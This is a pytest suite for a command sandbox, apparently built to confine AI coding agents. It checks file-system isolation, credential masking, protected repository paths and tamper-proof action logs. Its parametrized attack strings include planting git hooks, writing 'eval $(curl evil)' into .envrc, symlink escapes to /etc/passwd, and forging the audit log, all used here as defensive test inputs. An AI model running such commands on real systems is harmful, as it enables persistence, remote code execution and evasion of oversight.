"""File-system walls: what is granted works; what is not is absent, read-only or masked."""

from __future__ import annotations

import os
import subprocess

import pytest


def test_workspace_is_writable_and_the_file_lands_on_the_host(sandbox):
    result = sandbox.sh("echo built > out.txt && cat out.txt")
    assert result.returncode == 0, result.stderr
    assert (sandbox.workspace / "out.txt").read_text() == "built\n"


def test_cwd_is_the_workspace(sandbox):
    result = sandbox.sh("pwd")
    assert result.stdout.strip() == str(sandbox.workspace)


def test_write_outside_the_workspace_fails_and_leaves_nothing(sandbox, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    result = sandbox.sh(f"echo pwned > {outside}/x; echo pwned > /etc/pwned; echo pwned > /usr/pwned; echo done")
    assert result.stdout.strip() == "done"
    assert not (outside / "x").exists()
    assert not os.path.exists("/etc/pwned") and not os.path.exists("/usr/pwned")
    assert "Permission denied" in result.stderr  # the supervisor refused the write-intent open
    denied = [r for r in sandbox.records() if r["event"] == "file" and r["decision"] == "deny"]
    assert {r["path"] for r in denied} >= {"/etc/pwned", "/usr/pwned"}
    assert all("outside the writable set" in r["rule"] for r in denied)


def test_a_write_where_nothing_exists_fails_as_the_kernel_says_and_is_no_denial(sandbox):
    """A parent that is not there (or the file itself, without O_CREAT) fails before any
    permission matters: ENOENT/ENOTDIR as without a sandbox, nothing to log or ask (Node writes
    /sys/kernel/debug/tracing/trace_marker: every claude run had a denial table). A file that
    could be made outside is still refused and logged."""
    probe = ("import errno, os\n"
             "w, c = os.O_WRONLY, os.O_WRONLY | os.O_CREAT\n"
             "for path, flags in (('/no/such/dir/f', c), ('/etc/passwd/x', c), ('/usr/no-such-file', w),"
             " ('/usr/pwned', c)):\n"
             "    try:\n        os.open(path, flags, 0o644); print(path, 'opened')\n"
             "    except OSError as e:\n        print(path, errno.errorcode[e.errno])\n")
    result = sandbox.run("--approve", "deny", "--", "python3", "-c", probe)
    assert result.stdout.splitlines() == ["/no/such/dir/f ENOENT", "/etc/passwd/x ENOTDIR",
                                          "/usr/no-such-file ENOENT", "/usr/pwned EACCES"], result.stderr
    denied = [r["path"] for r in sandbox.records() if r["event"] == "file" and r["decision"] == "deny"]
    assert denied == ["/usr/pwned"]
    assert not os.path.exists("/usr/pwned")


def test_a_write_through_a_symlink_to_proc_self_is_no_missing_parent(sandbox, tmp_path):
    """/proc/self is the reader's own: the supervisor has no pid in the sandbox's /proc, so its
    walk through a read-only host directory's link to /proc/self/root/etc found "nothing there"
    and the write of /etc/passwd behind it was answered ENOENT with no denial (the caller's
    kernel reaches /etc/passwd: EACCES). It is refused and logged, naming where the write lands
    (/etc/passwd, as the caller's kernel resolves the link), not the text it was given."""
    ro = tmp_path / "ro"
    ro.mkdir()
    (ro / "etc").symlink_to("/proc/self/root/etc")
    (ro / "usr").symlink_to("/proc/thread-self/root/usr")
    probe = ("import errno, os, sys\n"
             "for path, flags in ((sys.argv[1] + '/etc/passwd', os.O_WRONLY),"
             " (sys.argv[1] + '/usr/pwned', os.O_WRONLY | os.O_CREAT)):\n"
             "    try:\n        os.open(path, flags, 0o644); print('opened')\n"
             "    except OSError as e:\n        print(errno.errorcode[e.errno])\n")
    result = sandbox.run("--approve", "deny", "--allow-read", str(ro), "--", "python3", "-c", probe, str(ro))
    assert result.stdout.splitlines() == ["EACCES", "EACCES"], result.stderr
    denied = [r["path"] for r in sandbox.records() if r["event"] == "file" and r["decision"] == "deny"]
    assert denied == ["/etc/passwd", "/usr/pwned"]
    assert not os.path.exists("/usr/pwned")


def test_writes_outside_are_still_refused_by_the_kernel_without_file_events(sandbox, tmp_path):
    """With the supervisor out of the way (file_events: none, no exec events, which keep write opens
    trapped, and no writable host directory whose changes it would carry out), the mounts alone
    still hold."""
    policy = sandbox.write_policy("nofile.yaml", "version: 1\nextends: default\nworkspace: none\n"
                                  "log:\n  file_events: none\n  exec_events: false\n")
    result = sandbox.run("--", "/bin/sh", "-c", "echo x > /etc/pwned; echo x > /usr/pwned; echo done",
                         policy=str(policy))
    assert result.stdout.strip() == "done"
    assert "Read-only file system" in result.stderr
    assert not os.path.exists("/etc/pwned") and not os.path.exists("/usr/pwned")
    assert not [r for r in sandbox.records() if r["event"] == "file"]


def test_paths_not_granted_are_absent(sandbox, tmp_path):
    secret_dir = tmp_path / "private"
    secret_dir.mkdir()
    (secret_dir / "data").write_text("host-only")
    result = sandbox.sh(f"cat {secret_dir}/data")
    assert result.returncode != 0
    assert "host-only" not in result.stdout


def test_home_is_private_and_empty(sandbox):
    (sandbox.home / "diary.txt").write_text("host secret")
    result = sandbox.sh('ls -A "$HOME"; echo planted > "$HOME/planted"; echo rc=$?')
    assert "diary.txt" not in result.stdout
    assert "rc=0" in result.stdout  # HOME is a writable tmpfs ...
    assert not (sandbox.home / "planted").exists()  # ... that vanishes with the run


def test_denied_credentials_are_masked_under_a_granted_parent(sandbox):
    ssh = sandbox.home / ".ssh"
    ssh.mkdir()
    (ssh / "id_rsa").write_text("PRIVATE KEY")
    (sandbox.home / ".netrc").write_text("machine x password hunter2")
    (sandbox.home / "notes.txt").write_text("readable")
    policy = sandbox.write_policy("home-ro.yaml", "version: 1\nextends: default\nfilesystem:\n  read: ['~']\n")
    result = sandbox.run("--", "/bin/sh", "-c",
                         'cat ~/notes.txt; ls -A ~/.ssh; cat ~/.ssh/id_rsa; cat ~/.netrc; echo end',
                         policy=str(policy))
    assert "readable" in result.stdout
    assert "PRIVATE KEY" not in result.stdout and "hunter2" not in result.stdout
    assert result.stdout.strip().endswith("end")


def test_dotenv_in_workspace_is_masked(sandbox):
    (sandbox.workspace / ".env").write_text("OPENAI_API_KEY=sk-live")
    (sandbox.workspace / ".env.local").write_text("TOKEN=abc")
    result = sandbox.sh("cat .env .env.local; echo end")
    assert "sk-live" not in result.stdout and "abc" not in result.stdout


def test_etc_shadow_is_masked(sandbox):
    result = sandbox.sh("wc -c < /etc/shadow")
    assert result.stdout.strip() in ("0", "")


@pytest.mark.parametrize("attack", [
    "echo evil > .git/hooks/pre-commit",
    "echo evil >> .git/config",
    "rm -rf .git/hooks",
    "mv .git x && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
    "mv .git/hooks .git/h2 && mkdir .git/hooks && echo evil > .git/hooks/pre-commit",
    "ln -s /tmp/evil .git/hooks/post-checkout",
    "echo 'eval evil' > .envrc",
])
def test_protected_paths_resist_tampering(sandbox, attack):
    subprocess.run(["git", "init", "-q", str(sandbox.workspace)], check=True)
    (sandbox.workspace / ".envrc").write_text("# direnv\n")
    config_before = (sandbox.workspace / ".git" / "config").read_text()
    hooks_before = sorted(os.listdir(sandbox.workspace / ".git" / "hooks"))
    result = sandbox.sh(attack + "; echo end")
    assert "end" in result.stdout
    assert (sandbox.workspace / ".git" / "config").read_text() == config_before
    assert sorted(os.listdir(sandbox.workspace / ".git" / "hooks")) == hooks_before
    assert not (sandbox.workspace / ".git" / "hooks" / "pre-commit").exists()
    assert (sandbox.workspace / ".envrc").read_text() == "# direnv\n"
    assert not (sandbox.workspace / "x").exists()


def test_git_still_works_in_the_workspace(sandbox):
    subprocess.run(["git", "init", "-q", str(sandbox.workspace)], check=True)
    (sandbox.workspace / "a.txt").write_text("a")
    result = sandbox.sh("git status --short && git add a.txt && git -c user.name=t -c user.email=t@t "
                        "commit -qm first && git log --oneline | wc -l")
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip().endswith("1")


def test_python_stdlib_and_compiling_into_the_workspace(sandbox):
    (sandbox.workspace / "mod.py").write_text("import json, sqlite3, ssl, hashlib\nVALUE = 42\n")
    result = sandbox.sh("python3 -c 'import mod; print(mod.VALUE)' && python3 -m py_compile mod.py && ls __pycache__")
    assert result.returncode == 0, result.stderr
    assert "42" in result.stdout
    assert list((sandbox.workspace / "__pycache__").glob("mod.*.pyc"))


def test_c_compiler_writes_to_the_workspace(sandbox):
    import shutil

    if not shutil.which("cc"):
        pytest.skip("no C compiler on this machine")
    (sandbox.workspace / "hello.c").write_text('#include <stdio.h>\nint main(){puts("hi");return 0;}\n')
    result = sandbox.sh("cc -o hello hello.c && ./hello")
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "hi"
    assert (sandbox.workspace / "hello").exists()


def test_the_action_log_is_invisible_even_inside_the_workspace(sandbox):
    state = sandbox.workspace / ".state"
    result = sandbox.run("--", "/bin/sh", "-c", "ls -A .state/sandboxctl; cat .state/sandboxctl/actions.jsonl; "
                         "echo forged >> .state/sandboxctl/actions.jsonl; echo end",
                         env={"XDG_STATE_HOME": str(state)})
    assert "end" in result.stdout
    lines = (state / "sandboxctl" / "actions.jsonl").read_text().splitlines()
    assert lines and all(line.startswith("{") for line in lines)  # no appended "forged" line
    assert '"run.start"' not in result.stdout
    moved = sandbox.run("--", "/bin/sh", "-c", "mv .state .x; mv .state/sandboxctl .y; echo end",
                        env={"XDG_STATE_HOME": str(state)})
    assert "end" in moved.stdout
    assert (state / "sandboxctl" / "actions.jsonl").exists() and not (sandbox.workspace / ".x").exists()


def test_the_launcher_files_are_not_readable_by_the_command(sandbox):
    result = sandbox.sh("cat /run/sandboxctl/shim.py | head -1; echo rc=$?")
    assert "Runs inside the sandbox" not in result.stdout


def test_dry_run_runs_nothing(sandbox):
    result = sandbox.run("--dry-run", "--", "touch", "marker")
    assert result.returncode == 0
    assert "bwrap" in result.stdout
    assert not (sandbox.workspace / "marker").exists()


@pytest.mark.parametrize("attack", [
    "echo 'eval $(curl evil)' > .envrc",
    "echo '{\"mcpServers\": {}}' > .mcp.json",
    "git init -q . && echo evil > .git/hooks/pre-commit",
    "mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
    "mv .vscode v && mkdir .vscode && echo '{}' > .vscode/tasks.json",
    "echo x > made && mv made .envrc",
])
def test_absent_protected_paths_cannot_be_created(sandbox, attack):
    result = sandbox.sh(attack + "; echo end")
    assert "end" in result.stdout
    leftovers = sorted(p.name for p in sandbox.workspace.iterdir())
    assert leftovers in ([], ["made"]), leftovers  # placeholders gone, nothing planted
